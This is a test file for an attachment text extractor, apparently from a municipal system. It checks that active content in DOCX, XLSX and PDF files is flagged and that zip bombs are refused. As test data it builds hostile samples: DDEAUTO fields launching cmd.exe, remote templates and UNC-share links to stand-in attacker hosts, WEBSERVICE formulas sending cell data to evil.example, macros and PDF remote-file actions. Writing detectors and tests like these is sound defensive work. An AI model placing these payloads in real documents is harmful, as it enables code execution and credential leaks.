/**
 * What a reader's program would run or open by itself in a DOCX, XLSX or PDF (an attacker's test
 * found these passing): fields and relationships of a DOCX, formulas hidden by entities, namespace
 * prefixes or CDATA and cell hyperlinks to files in an XLSX, actions that open other files and links
 * without a web address in a PDF – each class refused, ordinary files left alone. Judged through
 * extractText, as the check and the build read a file.
 */
import { describe, expect, it } from 'vitest';
import { unzipSync } from 'fflate';
import { PDFName } from 'pdf-lib';
import { extractText } from '../../src/lib/attachments/extract.ts';
import { AttachmentReadError } from '../../src/lib/attachments/text.ts';
import { textDocx, workbook } from '../../scripts/lib/corpus/attachment-files.ts';
import { addLink, docxWith, encryptedPdfWithLink, pdfText, pdfWith, rel, xlsxWith, zipBomb } from '../helpers/hostile-files.ts';

const active = async (kind: 'pdf' | 'docx' | 'xlsx', bytes: Uint8Array): Promise<string[]> => (await extractText(kind, bytes)).active ?? [];

/** A complex field: begin, its instruction in as many runs as given, separate, a result, end. */
const field = (...instruction: string[]): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction
    .map((t) => `<w:r><w:instrText xml:space="preserve">${t}</w:instrText></w:r>`)
    .join(
      '',
    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>resultat</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

describe('DOCX: fields, macros, objects and what the document fetches', () => {
  it('refuses DDE and DDEAUTO fields, simple or split across runs, entity-encoded or hidden by a nested field', async () => {
    const simple = `<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`;
    expect(await active('docx', await docxWith({ body: simple }))).toEqual(['field:DDEAUTO']);
    expect(await active('docx', await docxWith({ body: field(' DD', 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ') }))).toEqual([
      'field:DDEAUTO',
    ]);
    expect(await active('docx', await docxWith({ body: field('&#68;DE cmd "/c calc" x') }))).toEqual(['field:DDE']);
    // { {QUOTE 68 68 69 65 85 84 79} c:\\…\\cmd.exe }: the outer field's name is the inner field's result.
    const nested = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> </w:instrText></w:r>${field('QUOTE 68 68 69 65 85 84 79').slice(5, -6)}<w:r><w:instrText> c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
    expect(await active('docx', await docxWith({ body: nested }))).toEqual(['field:hidden']);
    // Fields that fetch a file or address when Word updates them, here from a Windows share.
    expect(await active('docx', await docxWith({ body: field('INCLUDEPICTURE "\\\\\\\\attacker\\\\share\\\\x.png" \\d') }))).toEqual([
      'field:INCLUDEPICTURE',
    ]);
    expect(await active('docx', await docxWith({ body: field('HYPERLINK "\\\\\\\\attacker\\\\share"') }))).toEqual(['link:unc']);
  });

  it('refuses a remote template and every other relationship to outside the document but a web link', async () => {
    const template = await docxWith({ settingsRels: [rel('rId1', 'attachedTemplate', 'https://attacker.example/t.dotm')] });
    expect(await active('docx', template)).toEqual(['external:attachedTemplate']);
    const outside = await docxWith({
      rels: [
        rel('rId90', 'oleObject', 'file:///C:/Windows/System32/calc.exe'),
        rel('rId91', 'frame', 'https://attacker.example/frame.html'),
        rel('rId92', 'subDocument', '\\\\attacker\\share\\sub.docx'),
        rel('rId93', 'image', 'https://attacker.example/pixel.png'),
      ],
    });
    expect(await active('docx', outside)).toEqual(['external:oleObject', 'external:frame', 'external:subDocument', 'external:image']);
  });

  it('refuses hyperlinks to javascript:, file:, a Windows share or a file beside the document, and keeps web, mail and phone links', async () => {
    const links = await docxWith({
      rels: [
        rel('rId90', 'hyperlink', 'javascript:alert(1)'),
        rel('rId91', 'hyperlink', 'file:///C:/Windows/System32/calc.exe'),
        rel('rId92', 'hyperlink', '\\\\attacker\\share'),
        rel('rId93', 'hyperlink', 'notat.docx'),
        rel('rId94', 'hyperlink', 'https://www.kk.dk/'),
      ],
    });
    expect(await active('docx', links)).toEqual(['link:javascript', 'link:file', 'link:unc', 'link:relative']);
    const ordinary = await docxWith({
      rels: [
        rel('rId90', 'hyperlink', 'https://www.kk.dk/'),
        rel('rId91', 'hyperlink', 'mailto:a@kk.dk'),
        rel('rId92', 'hyperlink', 'tel:33663366'),
      ],
      body: `${field(' PAGE ')}${field(' HYPERLINK "https://www.kk.dk/" \\o "Kommunen"')}${field(' HYPERLINK \\l "afsnit-2"')}`,
    });
    expect(await active('docx', ordinary)).toEqual([]);
  });

  it('refuses macros (also behind a .docx name), ActiveX controls and embedded OLE objects', async () => {
    const macros = await docxWith({
      parts: { 'word/vbaProject.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) },
      types: ['<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'],
    });
    expect(await active('docx', macros)).toEqual(['macro']);
    const objects = await docxWith({
      parts: { 'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="x"/>', 'word/embeddings/oleObject1.bin': new Uint8Array([1]) },
      rels: [rel('rId90', 'control', 'activeX/activeX1.xml', false), rel('rId91', 'oleObject', 'embeddings/oleObject1.bin', false)],
    });
    expect(await active('docx', objects)).toEqual(['activex', 'embedded-object']);
  });

  it('finds a field in a part Word reaches by its content type, whatever the part is called', async () => {
    const renamed = await docxWith({
      parts: { 'word/extra.dat': `<w:hdr xmlns:w="w">${field('DDEAUTO cmd x')}</w:hdr>` },
      types: [
        '<Override PartName="/word/extra.dat" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>',
      ],
    });
    expect(await active('docx', renamed)).toEqual(['field:DDEAUTO']);
  });
});

describe('XLSX: formulas however written, and cell hyperlinks', () => {
  it('refuses a HYPERLINK formula entity-encoded, with a namespace prefix, in CDATA or in a defined name', async () => {
    const cell = (f: string, at = 'C1') => `<c r="${at}"><f>${f}</f></c>`;
    expect(await active('xlsx', await xlsxWith({ cells: cell('&#72;YPERLINK("https://evil.example","klik")') }))).toEqual([
      'formula:HYPERLINK',
    ]);
    const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
    const prefixed = await xlsxWith({ cells: `<c r="C1"><x:f xmlns:x="${main}">HYPERLINK("https://evil.example")</x:f></c>` });
    expect(await active('xlsx', prefixed)).toEqual(['formula:HYPERLINK']);
    expect(await active('xlsx', await xlsxWith({ cells: cell('<![CDATA[WEBSERVICE("https://evil.example/?"&A1)]]>') }))).toEqual([
      'formula:WEBSERVICE',
    ]);
    expect(
      await active(
        'xlsx',
        await xlsxWith({
          parts: {
            'xl/workbook.xml': (old) =>
              old.replace(
                '</workbook>',
                '<definedNames><definedName name="x">WEBSERVICE("https://e.example")</definedName></definedNames></workbook>',
              ),
          },
        }),
      ),
    ).toEqual(['formula:WEBSERVICE']);
    expect(await active('xlsx', await xlsxWith({ cells: cell("cmd|' /C calc'!A0") }))).toEqual(['formula:DDE']);
    // Ordinary formulas, also with | and ! inside quoted text.
    expect(await active('xlsx', await xlsxWith({ cells: `${cell('SUM(B2:B2)')}${cell('"a|b"&"!"', 'D1')}` }))).toEqual([]);
  });

  it('refuses a cell hyperlink to a file or a Windows share, and keeps one to a web address', async () => {
    const links = await xlsxWith({
      sheetRels: [
        rel('rId90', 'hyperlink', 'file:///C:/Windows/System32/calc.exe'),
        rel('rId91', 'hyperlink', '\\\\attacker\\share\\x.xlsx'),
        rel('rId92', 'hyperlink', 'https://www.kk.dk/'),
      ],
      sheet: (old) =>
        old.replace(
          '</sheetData>',
          '</sheetData><hyperlinks><hyperlink ref="A1" r:id="rId90"/><hyperlink ref="A2" r:id="rId91"/><hyperlink ref="B1" r:id="rId92"/></hyperlinks>',
        ),
    });
    expect(await active('xlsx', links)).toEqual(['link:file', 'link:unc']);
    expect(await active('xlsx', await xlsxWith({ sheetRels: [rel('rId90', 'hyperlink', 'https://www.kk.dk/')] }))).toEqual([]);
  });

  it('refuses Excel 4.0 macro sheets, data connections and macro-enabled content types', async () => {
    const xlm = await xlsxWith({
      parts: { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet xmlns:xm="x"/>', 'xl/connections.xml': '<connections/>' },
    });
    expect(await active('xlsx', xlm)).toEqual(['macro', 'data-connection']);
  });
});

describe('PDF: actions that open other files, and links without a web address', () => {
  it('refuses GoToR, a Thread, Sound or Movie with a file outside the PDF, and a Rendition of one', async () => {
    const unc = pdfText('\\\\attacker\\share\\x.pdf');
    expect(await active('pdf', await pdfWith((doc, page) => addLink(doc, page, { S: 'GoToR', F: unc, D: [0, 'Fit'] })))).toEqual([
      'remote-file',
    ]);
    expect(
      await active('pdf', await pdfWith((doc, page) => addLink(doc, page, { S: 'Thread', F: { Type: 'Filespec', F: unc }, D: 0 }))),
    ).toEqual(['remote-file']);
    const sound = await pdfWith((doc, page) => {
      const stream = doc.context.stream(new Uint8Array(0), { F: unc, R: 8000 });
      addLink(doc, page, { S: 'Sound', Sound: doc.context.register(stream) });
    });
    expect(await active('pdf', sound)).toEqual(['remote-file']);
    const rendition = await pdfWith((doc, page) =>
      addLink(doc, page, {
        S: 'Rendition',
        OP: 0,
        R: { S: 'MR', C: { S: 'MCD', D: { Type: 'Filespec', FS: 'URL', F: pdfText('https://attacker.example/a.mp4') } } },
      }),
    );
    expect(await active('pdf', rendition)).toEqual(['remote-file']);
    const movie = await pdfWith((doc, page) => page.set(PDFName.of('Movie'), doc.context.obj({ F: unc })));
    expect(await active('pdf', movie)).toEqual(['remote-file']);
  });

  it('refuses a URI without a scheme or to a Windows share (the Bad-PDF leak), also in an encrypted PDF, and keeps web links', async () => {
    const uri = async (u: string) => active('pdf', await pdfWith((doc, page) => addLink(doc, page, { S: 'URI', URI: pdfText(u) })));
    expect(await uri('\\\\attacker\\share')).toEqual(['link:unc']);
    expect(await uri('//attacker/share')).toEqual(['link:unc']);
    expect(await uri('www.attacker.example')).toEqual(['link:relative']);
    expect(await uri('C:\\Windows\\System32\\calc.exe')).toEqual(['link:file']);
    expect(await uri('https://www.kk.dk/')).toEqual([]);
    expect(await uri('mailto:a@kk.dk')).toEqual([]);
    expect(await active('pdf', await encryptedPdfWithLink('\\\\attacker\\share'))).toEqual(['link:unc']);
    expect(await active('pdf', await encryptedPdfWithLink('https://www.kk.dk/'))).toEqual([]);
  });
});

describe('a zip bomb', () => {
  const reason = async (p: Promise<unknown>): Promise<string> =>
    p.then(
      () => 'ingen fejl',
      (err: unknown) => (err instanceof AttachmentReadError ? err.reason : String(err)),
    );

  it('is refused quickly and without inflating it when its directory says how large it is', async () => {
    // 150 MB of zeros in a DOCX of a few hundred kB (an attacker's 1 MB held 1,1 GB).
    const bomb = zipBomb(unzipSync(await textDocx('Kort tekst.')), { name: 'word/media/image1.bin', size: 150_000_000 });
    const started = performance.now();
    expect(await reason(extractText('docx', bomb))).toMatch(/^filen fylder over 100 MB, når den pakkes ud \(\d+ kB pakket\)/);
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('is refused after at most the limit when its directory lies about the sizes', async () => {
    const files = unzipSync(await workbook([{ name: 'Tal', rows: [['År'], ['2009']] }]));
    const bomb = zipBomb(files, { name: 'xl/worksheets/sheet2.xml', size: 150_000_000, declared: 1000 });
    const started = performance.now();
    expect(await reason(extractText('xlsx', bomb))).toMatch(/^filen fylder over 100 MB, når den pakkes ud/);
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});
